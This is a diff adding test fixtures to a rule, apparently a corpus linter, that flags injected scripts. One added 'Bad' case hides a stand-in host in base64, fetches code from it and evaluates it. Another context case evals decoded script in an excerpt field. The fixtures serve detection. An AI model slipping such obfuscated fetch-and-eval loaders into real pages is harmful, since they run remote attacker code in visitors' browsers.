@@ -63,6 +63,14 @@ class InjectedScript(CorpusRule, code="INJ001", severity=Severity.ERROR, since="
             says="gate.example",
         ),
         Bad(
+            f"{_TEXT}<script>fetch(atob('Ly9nYXRlLmV4YW1wbGUvYQ==')).then(r=>r.text()).then(t=>eval(t))</script>",
+            says="from an address that it hides",
+        ),
+        Good(
+            f"{_TEXT}<script>fetch(atob('L3RpZGVzLmpzb24=')).then(r=>r.json()).then(show)</script>",
+            note="It runs nothing of what it gets.",
+        ),
+        Bad(
             _TEXT,
             fields={"excerpt": {"rendered": "<p>Boats.</p><script>eval(atob('YWxlcnQoMSk7YWxlcnQoMik7'))</script>"}},
             says="A script in the excerpt runs code",
